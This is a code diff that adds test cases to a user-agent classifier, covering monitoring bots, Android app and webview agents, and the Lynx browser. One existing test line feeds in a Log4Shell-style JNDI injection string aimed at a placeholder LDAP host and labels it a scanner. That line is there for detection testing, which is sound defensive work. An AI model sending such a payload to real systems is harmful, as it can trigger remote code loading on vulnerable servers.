@@ -127,6 +127,11 @@ classify! {
     shape_injection: "${jndi:ldap://203.0.113.9/a}" => Robot, "-", "scanner", [];
     shape_free_text: "anonymous" => Robot, "-", "other", [];
     shape_mozilla_no_engine: "Mozilla/4.0 (compatible; Fetchkit Library)" => Robot, "-", "http-library", [];
+    shape_service_product: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.7204.168 Safari/537.36 AcmeSynthetics" => Robot, "-", "monitoring", [];
+    shape_service_product_with_version: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 AcmeSiteChecker/3.0" => Robot, "-", "monitoring", [];
+    shape_keeps_app_after_engine: "Mozilla/5.0 (Linux; Android 11; SM-A515F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.45 Mobile Safari/537.36 Banca Caboto" => Browser, "-", "-", [];
+    shape_keeps_webview_app_named_like_a_tool: "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.123 Mobile Safari/537.36 CamScanner/4.8.5" => Browser, "-", "-", [];
+    shape_keeps_text_browser_on_libwww: "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.6.5" => Browser, "-", "-", [];
     shape_keeps_android_app: "Bible 4.3.7 (samsung GT-P5200 santos103gxx;Android 4.2.2;de_DE;gzip)" => Unknown, "-", "-", [];
     shape_keeps_feature_phone: "Nokia3510i" => Unknown, "-", "-", [];
     shape_keeps_webview: "Mozilla/5.0 (Linux; Android 9; SM-G950F Build/PPR1.180610.011; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/79.0.3945.79 Mobile Safari/537.36 Viber/12.0.0.4" => Browser, "-", "-", [];
